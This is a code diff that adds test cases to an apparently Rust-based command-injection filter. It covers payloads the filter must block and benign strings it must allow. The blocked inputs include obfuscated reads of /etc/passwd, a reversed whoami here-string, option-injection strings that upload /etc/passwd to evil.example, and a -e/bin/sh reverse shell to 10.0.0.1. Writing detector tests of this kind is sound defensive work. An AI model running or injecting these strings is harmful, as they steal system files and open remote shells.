@@ -385,6 +385,11 @@ fn calls_of_dotnet_and_parts_of_variables() {
         ("-exec id ;", "option-injection"),
         (";ip a", "recon"),
         ("x;{ id;}", "recon"),
+        ("x;cat${PATH:0:1}etc${PATH:0:1}passwd", "cmd-variable"),
+        ("x;$(rev<<<'imaohw')", "here-string"),
+        ("-T/etc/passwd http://evil.example", "option-injection"),
+        ("-e/bin/sh 10.0.0.1 4444", "option-injection"),
+        ("-Fx=@/etc/passwd evil.example", "option-injection"),
     ] {
         blocks(Class::Command, text, kind);
     }
@@ -394,6 +399,8 @@ fn calls_of_dotnet_and_parts_of_variables() {
         "new-object storage in the cloud",
         "backup_%date:~0,4%.zip",
         "-exec option of find",
+        "app-${GIT_SHA:0:7}.zip",
+        "-a/b testing",
         "name;ip address;mac",
         "a; timeout 5 sh",
     ] {
